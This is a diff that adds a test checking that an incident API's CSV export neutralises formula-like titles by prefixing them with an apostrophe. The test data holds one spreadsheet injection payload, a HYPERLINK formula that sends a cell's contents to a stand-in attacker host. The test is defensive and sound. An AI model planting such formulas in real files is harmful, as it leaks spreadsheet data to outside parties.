@@ -74,3 +74,11 @@ def test_anonymous_and_bad_filters_are_refused(client: TestClient, auth: Auth) -
     assert client.get("/api/incidents.csv").status_code == 401
     res = client.get("/api/incidents.csv", params={"lang": "fr"}, headers=auth("dispatcher"))
     assert res.status_code == 422 and res.json()["error"]["field"] == "lang"
+
+
+def test_formula_like_titles_are_neutralised(client: TestClient, session: Session, auth: Auth) -> None:
+    demo.seed(session, now=datetime.now(UTC))
+    item = client.get("/api/incidents", params={"limit": 1}, headers=auth("dispatcher")).json()["items"][0]
+    item["title"] = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    rows = list(csv.reader(io.StringIO(export.to_csv([item]).lstrip("\ufeff"))))
+    assert rows[1][rows[0].index("标题")] == "'" + item["title"]
